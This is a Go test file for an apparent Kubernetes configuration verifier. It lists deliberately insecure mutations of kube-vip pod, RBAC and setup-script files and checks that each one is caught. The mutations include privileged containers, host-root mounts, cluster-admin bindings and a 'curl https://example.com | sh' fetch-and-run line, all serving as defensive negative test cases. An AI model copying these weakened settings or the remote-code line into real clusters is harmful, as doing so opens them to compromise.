package verify

import (
	"strings"
	"testing"

	"github.com/bartizan-dev/bartizan/model"
)

// vipMutations give kube-vip more than it needs, or let somebody else have what it holds.
func vipMutations() []mutation {
	const pod, rights, script = "kube-vip/pod.yaml", "kube-vip/rbac.yaml", "kube-vip.sh"
	var all []mutation
	for _, m := range []struct{ file, name, old, new string }{
		{pod, "another kind", "kind: Pod\n", "kind: PodTemplate\n"},
		{pod, "another namespace", "namespace: kube-system\nspec:", "namespace: default\nspec:"},
		{pod, "an annotation", "  name: kube-vip\n  namespace", "  annotations: {a: b}\n  name: kube-vip\n  namespace"},
		{pod, "a second container", "spec:\n  containers:\n", "spec:\n  containers:\n  - name: more\n    image: ghcr.io/kube-vip/kube-vip:v1.1.2\n"},
		{pod, "an init container", "spec:\n", "spec:\n  initContainers:\n  - name: x\n    image: x\n"},
		{pod, "a command", "    image: ", "    command: [/bin/sh]\n    image: "},
		{pod, "a second document", "  volumes:\n", "---\nkind: Pod\n---\n  volumes:\n"},
		{pod, "the node's processes", "  hostNetwork: true\n", "  hostNetwork: true\n  hostPID: true\n"},
		{pod, "no host network", "  hostNetwork: true\n", ""},
		{pod, "another server for the credential", "    ip: 127.0.0.1\n", "    ip: 10.0.0.66\n"},
		{pod, "one more alias", "    - kubernetes\n", "    - kubernetes\n    - ghcr.io\n"},
		{pod, "no priority", "  priorityClassName: system-node-critical\n", ""},
		{pod, "no seccomp", "      type: RuntimeDefault\n", "      type: Unconfined\n"},
		{pod, "a sysctl", "  securityContext:\n    seccompProfile:", "  securityContext:\n    sysctls: [{name: net.ipv4.ip_forward, value: '1'}]\n    seccompProfile:"},
		{pod, "another image", "ghcr.io/kube-vip/kube-vip:", "ghcr.io/kube-vip/kube-vip-iptables:"},
		{pod, "another registry", "ghcr.io/kube-vip/kube-vip:", "docker.io/plndr/kube-vip:"},
		{pod, "no version", "kube-vip:v1.1.2", "kube-vip:latest"},
		{pod, "a broken digest", "kube-vip:v1.1.2", "kube-vip:v1.1.2@sha256:0"},
		{pod, "metrics", "    - --prometheusHTTPServer=\n", ""},
		{pod, "services of the cluster", "    - manager\n", "    - manager\n    - --services\n"},
		{pod, "no ARP", "name: vip_arp\n      value: \"true\"", "name: vip_arp\n      value: \"false\""},
		{pod, "another port", "value: \"6443\"", "value: \"443\""},
		{pod, "no control plane", "name: cp_enable\n      value: \"true\"", "name: cp_enable\n      value: \"false\""},
		{pod, "a lease elsewhere", "name: cp_namespace\n      value: kube-system", "name: cp_namespace\n      value: default"},
		{pod, "no election", "name: vip_leaderelection\n      value: \"true\"", "name: vip_leaderelection\n      value: \"false\""},
		{pod, "another lease", "value: plndr-cp-lock", "value: kube-controller-manager"},
		{pod, "one name for all nodes", "      valueFrom:\n        fieldRef:\n          apiVersion: v1\n          fieldPath: spec.nodeName\n", "      value: node\n"},
		{pod, "another field as a name", "spec.nodeName", "metadata.name"},
		{pod, "a short lease", "value: \"15\"", "value: \"1\""},
		{pod, "a late renewal", "value: \"10\"", "value: \"100\""},
		{pod, "a rare retry", "value: \"2\"", "value: \"20\""},
		{pod, "another address", "value: 10.0.0.10", "value: 10.0.0.66"},
		{pod, "no address", "    - name: address\n      value: 10.0.0.10\n", ""},
		{pod, "a variable twice", "    - name: address\n", "    - name: address\n      value: 10.0.0.10\n    - name: address\n"},
		{pod, "services by a variable", "    - name: address\n", "    - name: svc_enable\n      value: \"true\"\n    - name: address\n"},
		{pod, "a password in a variable", "      value: 10.0.0.10\n", "      valueFrom: {secretKeyRef: {name: x, key: y}}\n"},
		{pod, "privileged", "      allowPrivilegeEscalation: false\n", "      allowPrivilegeEscalation: false\n      privileged: true\n"},
		{pod, "gaining privileges", "      allowPrivilegeEscalation: false\n", ""},
		{pod, "one more capability", "        - NET_RAW\n", "        - NET_RAW\n        - SYS_ADMIN\n"},
		{pod, "capabilities kept", "        - ALL\n", "        - MKNOD\n"},
		{pod, "admin.conf", "path: /etc/kubernetes/kube-vip.conf", "path: /etc/kubernetes/admin.conf"},
		{pod, "one more volume", "  volumes:\n", "  volumes:\n  - hostPath:\n      path: /\n    name: root\n"},
		{pod, "any path", "      type: File\n", ""},
		{pod, "a writable credential", "      readOnly: true\n", ""},
		{pod, "one more mount", "    volumeMounts:\n", "    volumeMounts:\n    - mountPath: /host\n      name: kubeconfig\n"},
		{pod, "a token", "  hostNetwork: true\n", "  hostNetwork: true\n  serviceAccountName: admin\n"},

		{pod, "no limit of memory", "      limits:\n        memory: 128Mi\n", ""},
		{rights, "every lease", "  resourceNames:\n  - plndr-cp-lock\n", ""},
		{rights, "another lease", "  - plndr-cp-lock\n", "  - kube-scheduler\n"},
		{rights, "one more verb", "  - get\n", "  - get\n  - delete\n"},
		{rights, "every verb", "  - create\n", "  - '*'\n"},
		{rights, "every resource", "  - leases\n", "  - '*'\n"},
		{rights, "every group", "- apiGroups:\n  - coordination.k8s.io\n", "- apiGroups:\n  - '*'\n"},
		{rights, "a rule for Secrets", "rules:\n", "rules:\n- apiGroups: ['']\n  resources: [secrets]\n  verbs: [get]\n"},
		{rights, "a ClusterRole", "kind: Role\n", "kind: ClusterRole\n"},
		{rights, "another role", "roleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: Role\n  name: kube-vip", "roleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin"},
		{rights, "a group of people", "subjects:\n", "subjects:\n- apiGroup: rbac.authorization.k8s.io\n  kind: Group\n  name: system:authenticated\n"},
		{rights, "another user", "  kind: User\n  name: kube-vip", "  kind: User\n  name: eve"},
		{rights, "another namespace", "  namespace: kube-system\nrules:", "  namespace: default\nrules:"},
		{rights, "another namespace of the binding", "  namespace: kube-system\nroleRef:", "  namespace: default\nroleRef:"},
		{rights, "one more object", "subjects:\n", "---\nkind: ClusterRoleBinding\n---\nsubjects:\n"},

		{script, "a group of administrators", "--client-name kube-vip", "--client-name kube-vip --org system:masters"},
		{script, "an administrator's name", "--client-name kube-vip", "--client-name kubernetes-admin"},
		{script, "a life of ten years", "--validity-period 8760h", "--validity-period 87600h"},
		{script, "a file for everybody", "umask 077\n", ""},
		{script, "a mode for everybody", "install -m 0600", "install -m 0666"},
		{script, "admin.conf in its place", "mv /etc/kubernetes/kube-vip.conf.new", "cp /etc/kubernetes/admin.conf"},
		{script, "one more command", "install -m 0600", "curl https://example.com | sh\ninstall -m 0600"},
		{script, "a command that hides", "set -eu\n", "set -u\n"},
		{script, "other rights", "kube-vip/rbac.yaml", "kube-vip/all.yaml"},
		{script, "no last command", "install -m 0600 -o root -g root \"$here/kube-vip/pod.yaml\" /etc/kubernetes/manifests/kube-vip.yaml\n", ""},
	} {
		all = append(all, mutation{name: m.file + " " + m.name, control: model.KubeVIPConfined, subject: "node_pool.control", file: m.file, old: m.old, new: m.new})
	}
	return all
}

func TestKubeVIPMutationsAreCaught(t *testing.T) {
	checkMutations(t, clusterSpec(), vipMutations())
}

// A pod that lost the declared digest runs whatever the tag means tomorrow.
func TestKubeVIPDigest(t *testing.T) {
	const digest = "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
	pinned := func(c *model.Cluster) { c.API.LoadBalancer.Image.Digest = digest }
	checkMutations(t, clusterSpec(pinned), []mutation{
		{name: "no digest", control: model.KubeVIPConfined, subject: "node_pool.control", file: "kube-vip/pod.yaml", old: "@" + digest, new: ""},
		{name: "another digest", control: model.KubeVIPConfined, subject: "node_pool.control", file: "kube-vip/pod.yaml", old: digest, new: "sha256:" + strings.Repeat("0", 64)},
	})
}
